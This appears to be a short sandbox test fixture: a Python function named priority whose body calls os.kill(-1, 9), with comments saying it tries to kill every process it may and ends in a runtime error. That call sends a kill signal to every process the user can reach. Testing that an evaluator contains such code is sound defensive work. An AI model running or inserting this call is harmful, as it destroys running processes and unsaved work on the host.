# Tries: to kill every process that it may
# Ends in: runtime_error
def priority(x):
    import os
    os.kill(-1, 9)
